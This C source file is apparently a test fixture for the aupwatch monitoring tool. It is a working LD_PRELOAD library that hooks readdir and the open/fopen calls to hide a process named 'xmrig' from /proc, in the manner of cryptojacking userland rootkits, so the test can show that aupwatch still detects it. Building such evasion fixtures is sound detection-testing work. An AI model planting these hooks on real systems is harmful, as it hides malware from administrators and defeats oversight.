/*
 * A process-hiding preload library for aupwatch's tests (tests/evasion.rs), in the manner of
 * libprocesshider (github.com/gianlucaborello/libprocesshider) and the ld.so.preload
 * rootkits that cryptojacking campaigns drop (Kinsing/H2Miner, TeamTNT, WatchDog: hooks on
 * readdir/readdir64, and on open/fopen of /proc/<pid>/... files).
 *
 * Compiled by the test with -DHIDE_NAME='"xmrig"' and handed to programs through
 * LD_PRELOAD only (never /etc/ld.so.preload). Every process whose comm is HIDE_NAME:
 *
 *   - disappears from readdir()/readdir64() of /proc (ls, ps, top, python os.listdir);
 *   - cannot be opened as /proc/<pid>/... through open/open64/openat/openat64/fopen/fopen64
 *     (ENOENT), absolute or relative to a directory descriptor.
 *
 * System calls made directly (not through these C library functions) are not affected: that
 * is what the test shows of aupwatch.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef HIDE_NAME
#error "compile with -DHIDE_NAME='\"name\"'"
#endif

/* comm of pid (read with raw system calls, so the hooks below never recurse). */
static int comm_of(const char *pid, char *out, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = syscall(SYS_read, fd, out, size - 1);
    syscall(SYS_close, fd);
    if (n <= 0)
        return 0;
    out[n] = 0;
    char *nl = strchr(out, '\n');
    if (nl)
        *nl = 0;
    return 1;
}

static int all_digits(const char *s, size_t n) {
    if (n == 0)
        return 0;
    for (size_t i = 0; i < n; i++)
        if (s[i] < '0' || s[i] > '9')
            return 0;
    return 1;
}

/* Whether the process `pid` (decimal text of length n) is the one to hide. */
static int hidden_pid(const char *pid, size_t n) {
    char buf[32], comm[64];
    if (!all_digits(pid, n) || n >= sizeof buf)
        return 0;
    memcpy(buf, pid, n);
    buf[n] = 0;
    return comm_of(buf, comm, sizeof comm) && strcmp(comm, HIDE_NAME) == 0;
}

/* Whether an absolute path is /proc/<hidden pid> or below it. */
static int hidden_path(const char *path) {
    if (strncmp(path, "/proc/", 6) != 0)
        return 0;
    const char *p = path + 6;
    size_t n = strcspn(p, "/");
    return hidden_pid(p, n);
}

/* The absolute path of `path` opened relative to `dirfd`. */
static int resolve(int dirfd, const char *path, char *out, size_t size) {
    if (path[0] == '/' || dirfd == AT_FDCWD) {
        if (path[0] == '/') {
            snprintf(out, size, "%s", path);
            return 1;
        }
        char cwd[4096];
        if (!getcwd(cwd, sizeof cwd))
            return 0;
        snprintf(out, size, "%s/%s", cwd, path);
        return 1;
    }
    char link[64], dir[4096];
    snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd);
    ssize_t n = readlink(link, dir, sizeof dir - 1);
    if (n <= 0)
        return 0;
    dir[n] = 0;
    snprintf(out, size, "%s/%s", dir, path);
    return 1;
}

static int hidden_at(int dirfd, const char *path) {
    char full[8192];
    return path && resolve(dirfd, path, full, sizeof full) && hidden_path(full);
}

/* Whether a directory stream lists /proc. */
static int is_proc_dir(DIR *d) {
    char link[64], dir[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(d));
    ssize_t n = readlink(link, dir, sizeof dir - 1);
    if (n <= 0)
        return 0;
    dir[n] = 0;
    return strcmp(dir, "/proc") == 0;
}

#define REAL(name) \
    static __typeof__(name) *real_##name; \
    if (!real_##name) \
        real_##name = (__typeof__(name) *)dlsym(RTLD_NEXT, #name)

struct dirent *readdir(DIR *d) {
    REAL(readdir);
    struct dirent *e;
    while ((e = real_readdir(d)) != NULL) {
        if (is_proc_dir(d) && hidden_pid(e->d_name, strlen(e->d_name)))
            continue;
        break;
    }
    return e;
}

struct dirent64 *readdir64(DIR *d) {
    REAL(readdir64);
    struct dirent64 *e;
    while ((e = real_readdir64(d)) != NULL) {
        if (is_proc_dir(d) && hidden_pid(e->d_name, strlen(e->d_name)))
            continue;
        break;
    }
    return e;
}

static mode_t mode_arg(int flags, va_list ap) {
    return (flags & (O_CREAT | O_TMPFILE)) ? (mode_t)va_arg(ap, int) : 0;
}

int open(const char *path, int flags, ...) {
    REAL(open);
    va_list ap;
    va_start(ap, flags);
    mode_t mode = mode_arg(flags, ap);
    va_end(ap);
    if (hidden_at(AT_FDCWD, path)) {
        errno = ENOENT;
        return -1;
    }
    return real_open(path, flags, mode);
}

int open64(const char *path, int flags, ...) {
    REAL(open64);
    va_list ap;
    va_start(ap, flags);
    mode_t mode = mode_arg(flags, ap);
    va_end(ap);
    if (hidden_at(AT_FDCWD, path)) {
        errno = ENOENT;
        return -1;
    }
    return real_open64(path, flags, mode);
}

int openat(int dirfd, const char *path, int flags, ...) {
    REAL(openat);
    va_list ap;
    va_start(ap, flags);
    mode_t mode = mode_arg(flags, ap);
    va_end(ap);
    if (hidden_at(dirfd, path)) {
        errno = ENOENT;
        return -1;
    }
    return real_openat(dirfd, path, flags, mode);
}

int openat64(int dirfd, const char *path, int flags, ...) {
    REAL(openat64);
    va_list ap;
    va_start(ap, flags);
    mode_t mode = mode_arg(flags, ap);
    va_end(ap);
    if (hidden_at(dirfd, path)) {
        errno = ENOENT;
        return -1;
    }
    return real_openat64(dirfd, path, flags, mode);
}

FILE *fopen(const char *path, const char *mode) {
    REAL(fopen);
    if (hidden_at(AT_FDCWD, path)) {
        errno = ENOENT;
        return NULL;
    }
    return real_fopen(path, mode);
}

FILE *fopen64(const char *path, const char *mode) {
    REAL(fopen64);
    if (hidden_at(AT_FDCWD, path)) {
        errno = ENOENT;
        return NULL;
    }
    return real_fopen64(path, mode);
}
